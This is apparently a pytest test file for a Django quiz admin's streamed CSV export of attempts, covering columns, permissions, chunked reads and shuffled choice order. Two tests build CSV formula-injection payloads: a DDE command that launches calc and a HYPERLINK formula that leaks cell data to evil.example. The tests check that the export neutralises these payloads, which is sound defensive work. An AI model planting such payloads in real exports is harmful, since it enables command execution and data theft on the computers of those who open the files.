"""The CSV export of a quiz's attempts and answers, streamed from the admin."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.http import StreamingHttpResponse
from django.utils import timezone

from quizzes.attempts.services import attempt_start
from quizzes.grading import Response
from quizzes.instructors.exports import CSV_HEADER, attempt_rows
from quizzes.models import Quiz
from tests import factories
from tests.steps import post_answer

from .conftest import record_attempt

pytestmark = pytest.mark.django_db

CHANGELIST_URL = "/en/admin/quizzes/quiz/"


def _read(response) -> list[dict[str, str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # So that spreadsheets read the Arabic as UTF-8.
    return list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"))))


@pytest.fixture
def attempts(quiz, learner, other_learner):
    finished = record_attempt(learner, quiz, [1, 2, 1], minutes_ago=90)
    in_progress = record_attempt(other_learner, quiz, [], minutes_ago=5, finished=False)
    return finished, in_progress


def test_csv_action_streams_one_row_per_answer(instructor_client, quiz, attempts):
    finished, in_progress = attempts

    response = instructor_client.post(
        CHANGELIST_URL, {"action": "export_attempts_csv", "_selected_action": [quiz.pk]}
    )

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="attempts-')
    rows = _read(response)
    assert list(rows[0]) == CSV_HEADER
    assert [
        (row["attempt_id"], row["question_position"], row["choice_position"], row["is_correct"])
        for row in rows
    ] == [
        (str(finished.pk), "1", "1", "1"),
        (str(finished.pk), "2", "2", "0"),
        (str(finished.pk), "3", "1", "1"),
        # An attempt with no answer yet still has its row.
        (str(in_progress.pk), "", "", ""),
    ]
    first = rows[0]
    assert first["quiz"] == quiz.slug
    assert first["learner"] == "Amina"
    assert first["score"] == "2" and first["total"] == "3"
    assert first["question_prompt"] == "Question 1 prompt?"
    assert first["choice_text"] == "Choice 1.1"
    assert rows[1]["correct_choice_position"] == "1"
    # In the instructor's zone: theirs has none, so the site's (UTC, or the suite's far zone).
    assert first["started_at"] == timezone.localtime(finished.started_at).isoformat()
    assert first["finished_at"] == timezone.localtime(finished.finished_at).isoformat()
    assert rows[3]["finished_at"] == ""


def test_csv_covers_every_selected_quiz_and_nothing_else(instructor_client, quiz, attempts):
    other = factories.make_quiz(questions=1)
    record_attempt(factories.make_user("chadi"), other, [1])
    unselected = factories.make_quiz(questions=1)
    record_attempt(factories.make_user("dana"), unselected, [1])

    response = instructor_client.post(
        CHANGELIST_URL,
        {"action": "export_attempts_csv", "_selected_action": [quiz.pk, other.pk]},
    )

    slugs = [row["quiz"] for row in _read(response)]
    assert sorted(set(slugs)) == sorted([quiz.slug, other.slug])
    assert len(slugs) == 5


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(instructor_client, quiz, start):
    record_attempt(factories.make_user(f"{start}cmd|' /C calc'!A0"), quiz, [1])
    record_attempt(factories.make_user(f"cmd{start}1"), quiz, [1])

    rows = list(attempt_rows(Quiz.objects.filter(pk=quiz.pk)))
    downloaded = _read(instructor_client.get(f"/en/admin/quizzes/quiz/{quiz.pk}/attempts.csv"))

    assert sorted(row[2] for row in rows[1:]) == sorted(
        [f"'{start}cmd|' /C calc'!A0", f"cmd{start}1"]
    )
    assert {row["learner"] for row in downloaded} == {f"'{start}cmd|' /C calc'!A0", f"cmd{start}1"}


@pytest.mark.parametrize("space", [" ", "   ", "\u00a0", "\u3000", "\n"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_typed_answer_with_a_formula_behind_leading_spaces_is_quoted_too(
    instructor_client, learner, space, start
):
    quiz = factories.make_quiz(questions=0)
    question = factories.add_short_question(quiz, 1)
    attempt = attempt_start(user=learner, quiz=quiz)
    typed = f'{space}{start}HYPERLINK("http://evil.example/?"&A1)'
    post_answer(attempt, question, response=Response(text=typed))

    downloaded = _read(instructor_client.get(f"/en/admin/quizzes/quiz/{quiz.pk}/attempts.csv"))

    assert [row["text_typed"] for row in downloaded] == ["'" + typed]


def test_quiz_page_offers_its_own_attempts_csv(instructor_client, quiz, attempts):
    url = f"/en/admin/quizzes/quiz/{quiz.pk}/attempts.csv"

    page = instructor_client.get(f"/en/admin/quizzes/quiz/{quiz.pk}/change/")
    response = instructor_client.get(url)

    assert url.encode() in page.content
    assert response["Content-Disposition"] == f'attachment; filename="attempts-{quiz.slug}.csv"'
    assert len(_read(response)) == 4


def test_rows_are_read_in_chunks_not_all_at_once(quiz, attempts, django_assert_num_queries):
    rows = attempt_rows(Quiz.objects.filter(pk=quiz.pk))

    # Nothing is read until the stream asks for rows.
    with django_assert_num_queries(0):
        assert next(rows) == CSV_HEADER
    with django_assert_num_queries(1):
        assert len(list(rows)) == 4


def test_csv_export_is_refused_without_permission_to_see_attempts(
    bare_staff, bare_staff_client, learner_client, quiz, attempts
):
    url = f"/en/admin/quizzes/quiz/{quiz.pk}/attempts.csv"
    assert "/admin/login/" in learner_client.get(url)["Location"]
    assert bare_staff_client.get(url).status_code == 403

    # Staff who may change quizzes but not see attempts do not get the action either.
    bare_staff.user_permissions.add(*Permission.objects.filter(codename__endswith="_quiz"))
    response = bare_staff_client.post(
        CHANGELIST_URL, {"action": "export_attempts_csv", "_selected_action": [quiz.pk]}
    )
    assert not isinstance(response, StreamingHttpResponse)
    assert bare_staff_client.get(url).status_code == 403


def test_a_shuffled_attempts_rows_show_the_order_its_choices_were_shown_in(
    instructor_client, learner, other_learner
):
    shuffled = factories.make_quiz(questions=2, choices=4, shuffle_choices=True)
    attempt = attempt_start(user=learner, quiz=shuffled)
    first, second = shuffled.questions.order_by("position")
    by_position = {c.position: c.pk for c in first.choices.all()}
    shown = [3, 1, 4, 2]
    # The order drawn at the start, made known: choice ids in the order shown.
    attempt.choice_order = {
        str(first.pk): [by_position[p] for p in shown],
        str(second.pk): list(second.choices.order_by("-position").values_list("pk", flat=True)),
    }
    attempt.save()
    post_answer(attempt, first, choice=first.choices.get(pk=by_position[4]))
    plain = factories.make_quiz(questions=1)
    record_attempt(other_learner, plain, [1])

    response = instructor_client.post(
        CHANGELIST_URL,
        {"action": "export_attempts_csv", "_selected_action": [shuffled.pk, plain.pk]},
    )

    rows = {(row["quiz"], row["question_position"]): row for row in _read(response)}
    assert rows[(shuffled.slug, "1")]["choice_order_shown"] == "3 1 4 2"
    assert rows[(shuffled.slug, "1")]["choice_position"] == "4"  # the quiz's own position
    assert rows[(plain.slug, "1")]["choice_order_shown"] == ""  # the quiz's order
